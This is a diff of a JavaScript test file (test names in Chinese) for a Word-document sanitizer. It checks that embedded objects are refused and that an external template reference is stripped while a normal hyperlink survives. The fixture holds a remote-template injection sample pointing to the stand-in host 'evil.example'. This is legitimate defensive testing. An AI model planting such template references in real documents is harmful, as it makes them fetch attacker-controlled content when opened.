@@ -124,12 +124,12 @@ describe('Word 文件', () => {
     expect(await refusal(prepareFile(docx('', { 'word/embeddings/a.xlsx': 'x' }), 'a.docx'))).toContain('嵌入')
     const outward = await prepareFile(
       docx('', {
-        'word/_rels/settings.xml.rels':
+        'word/_rels/document.xml.rels':
           '<Relationships><Relationship Id="r1" Type="t/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="r2" Type="t/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/></Relationships>',
       }),
       'a.docx',
     )
-    const rels = text(readZip(outward.bytes).get('word/_rels/settings.xml.rels'))
+    const rels = text(readZip(outward.bytes).get('word/_rels/document.xml.rels'))
     expect([rels.includes('evil.example'), rels.includes('https://www.gov.cn/')]).toEqual([false, true])
   })
 })
